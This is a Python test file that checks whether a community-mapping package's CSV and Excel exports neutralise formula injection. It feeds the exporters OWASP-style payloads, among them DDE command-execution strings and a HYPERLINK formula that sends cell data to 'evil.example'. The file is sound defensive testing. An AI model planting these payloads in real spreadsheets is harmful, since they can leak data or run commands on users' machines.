"""The output policy (community_map._cells): no download ever holds a live formula.

OWASP's CSV-injection payloads go through every CSV and Excel writer of the product;
no Excel cell may be a formula, and no CSV field or Excel text may start with a
formula trigger unless it is a plain number.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import geopandas as gpd
import networkx as nx
import pandas as pd
import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from community_map._cells import (
    FORMULA_TRIGGERS,
    csv_bytes,
    is_plain_number,
    neutralise,
    strip_controls,
    unneutralise,
)
from community_map._excel import write_table
from community_map._text import cell_text, trim
from community_map.activities import programme_from_excel, programme_to_excel
from community_map.network import graph_to_csv, metrics_to_excel
from community_map.territory import (
    AssetImport,
    assets_to_csv,
    assets_to_excel,
    coverage_to_csv,
)

# OWASP CSV Injection page and the tester's list: formulas, DDE, tab/CR prefixes, and the
# control character that broke the workbook writer.
PAYLOADS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "Casal\x0bNou",
    "-2+3+cmd|' /C calc'!A0",
]


def _csv_fields(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [field for row in csv.reader(io.StringIO(text, newline="")) for field in row]


def _assert_csv_safe(data: bytes) -> None:
    for field in _csv_fields(data):
        assert not field.startswith(FORMULA_TRIGGERS) or is_plain_number(field), repr(field)
        assert "\x0b" not in field


def _assert_xlsx_safe(data: bytes) -> int:
    """No formula cell, no text starting with a trigger; returns the number of text cells."""
    book = load_workbook(io.BytesIO(data))
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
    return texts


def _assets() -> gpd.GeoDataFrame:
    n = len(PAYLOADS)
    return gpd.GeoDataFrame(
        {
            "name": PAYLOADS,
            "category": ["library"] * n,
            "address": PAYLOADS[::-1],
            "phone": ["+34 93 000 00 00"] * n,
            "description": PAYLOADS,
            "tags": [[p] for p in PAYLOADS],
            "capacity": [-5] * n,  # a negative number stays a number
            "last_verified": [dt.date(2025, 3, 1)] * n,
        },
        geometry=[shapely.Point(430_900 + i, 4_581_800) for i in range(n)],
        crs=25831,
    )


def test_asset_csv_has_no_formula() -> None:
    data = assets_to_csv(_assets())
    _assert_csv_safe(data)
    fields = _csv_fields(data)
    assert "'=1+2" in fields and "'\t=1+2" in fields and "Casal Nou" in fields
    assert "-5" in fields  # numbers are not quoted


def test_asset_excel_has_no_formula_and_survives_control_characters() -> None:
    data = assets_to_excel(_assets())
    assert _assert_xlsx_safe(data) >= len(PAYLOADS)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "'@SUM(1+2)" in values and "Casal Nou" in values and -5 in values


def test_write_table_keeps_numbers_typed() -> None:
    buffer = io.BytesIO()
    write_table(buffer, pd.DataFrame({"=h": ["=1"], "n": [-3.5]}), sheet_name="t")
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet is not None
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["'=h", "n"], ["'=1", -3.5]]


def test_network_csv_and_workbook_have_no_formula() -> None:
    G = nx.Graph()
    for i, payload in enumerate(PAYLOADS):
        G.add_node(payload, label=payload, group=i)
    G.add_edge(PAYLOADS[0], PAYLOADS[1], kind="=1+2", weight=-1.0)
    nodes, edges = graph_to_csv(G)
    _assert_csv_safe(nodes)
    _assert_csv_safe(edges)
    per_window = pd.DataFrame({"window": PAYLOADS, "nodes": range(len(PAYLOADS))})
    per_node = {"T0": pd.DataFrame({"name": PAYLOADS, "degree": [-1] * len(PAYLOADS)})}
    assert _assert_xlsx_safe(metrics_to_excel(per_window, per_node)) >= 2 * len(PAYLOADS)


def _programme(payload: str) -> pd.DataFrame:
    return pd.DataFrame(
        [
            {
                "action_code": "ACT-1",
                "action_title": payload,
                "type": "workshop",
                "title": payload,
                "date": dt.date(2025, 3, 4),
                "start": "17:00",
                "end": "19:00",
                "venue_code": "EQ-1",
                "venue": payload,
                "facilitators": "PRO-1",
                "partners": "",
                "capacity": 12,
                "status": "planned",
                "cancel_reason": "",
                "notes": payload,
            }
        ]
    )


def _attendance(payload: str) -> pd.DataFrame:
    return pd.DataFrame(
        [
            {
                "action_code": "ACT-1",
                "date": dt.date(2025, 3, 4),
                "start": "17:00",
                "venue_code": "EQ-1",
                "type": "workshop",
                "participant_code": payload,
                "status": "attended",
                "walk_in": False,
            }
        ]
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_programme_workbook_has_no_formula_and_reads_back(payload: str) -> None:
    data = programme_to_excel(_programme(payload), _attendance(payload), language="ca")
    _assert_xlsx_safe(data)
    read = programme_from_excel(
        data,
        known_venues={"EQ-1"},
        known_actions={"ACT-1"},
        known_professionals={"PRO-1"},
        known_services=set(),
        known_participants={cell_text(strip_controls(payload))},
    )
    # the quote the export adds is removed on import: the title comes back unchanged
    # (but its control characters; and Excel files keep line breaks as line feeds)
    assert read.sessions.iloc[0].title == trim(strip_controls(payload)).replace("\r", "\n")


def test_coverage_and_skipped_reports_have_no_formula() -> None:
    table = pd.DataFrame({"neighbourhood": PAYLOADS, "gap_m": [-1.0] * len(PAYLOADS)})
    _assert_csv_safe(coverage_to_csv(table.set_index("neighbourhood")))
    skipped = pd.DataFrame({"row": [2] * len(PAYLOADS), "column": PAYLOADS, "reason": PAYLOADS})
    report = AssetImport(
        frame=pd.DataFrame(), skipped=skipped, unmapped_categories=[], messages=[]
    ).skipped_report_csv()
    _assert_csv_safe(report)


def test_subject_access_workbook_has_no_formula() -> None:
    from community_map.trust import participant_record_to_excel

    tables = {
        "participant": pd.DataFrame({"code": ["AM-1"], "alias": ["=1+2"]}),
        "attendance": pd.DataFrame({"title": PAYLOADS, "n": [-1] * len(PAYLOADS)}),
    }
    assert _assert_xlsx_safe(participant_record_to_excel(tables)) >= len(PAYLOADS)


def test_csv_bytes_keeps_negative_numbers() -> None:
    data = csv_bytes(pd.DataFrame({"n": [-1, -2], "t": ["-3", "-x"]}), bom=False)
    assert data.decode().splitlines() == ["n,t", "-1,-3", "-2,'-x"]


@given(st.text())
def test_neutralise_is_safe_and_idempotent(text: str) -> None:
    once = neutralise(text)
    assert neutralise(once) == once
    assert not once.startswith(FORMULA_TRIGGERS) or is_plain_number(once)
    clean = strip_controls(text)
    if not clean.startswith("'"):
        assert unneutralise(once) == clean  # import gives back what was exported


@given(st.integers() | st.floats(allow_nan=False) | st.none() | st.dates())
def test_neutralise_leaves_non_text_alone(value: object) -> None:
    assert neutralise(value) == value
